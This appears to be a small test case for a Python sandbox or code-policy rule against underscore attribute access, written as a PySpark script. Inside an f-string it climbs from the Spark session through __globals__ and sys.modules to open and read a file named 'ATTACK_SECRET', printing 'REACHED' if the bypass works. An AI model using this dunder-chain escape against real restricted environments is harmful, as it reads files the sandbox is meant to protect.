# attack: python
# rule: underscore-access
# goal: Read attributes inside an f-string. It is reached when REACHED is printed.
from pyspark.sql import SparkSession, functions as F

spark = SparkSession.builder.appName("attack").getOrCreate()

text = f"{spark.__class__.__init__.__globals__['sys'].modules['io'].open('ATTACK_SECRET').read()}"
if text:
    print('REACHED')

result = spark.range(1)
result.write.mode("overwrite").parquet("ATTACK_OUTPUT")
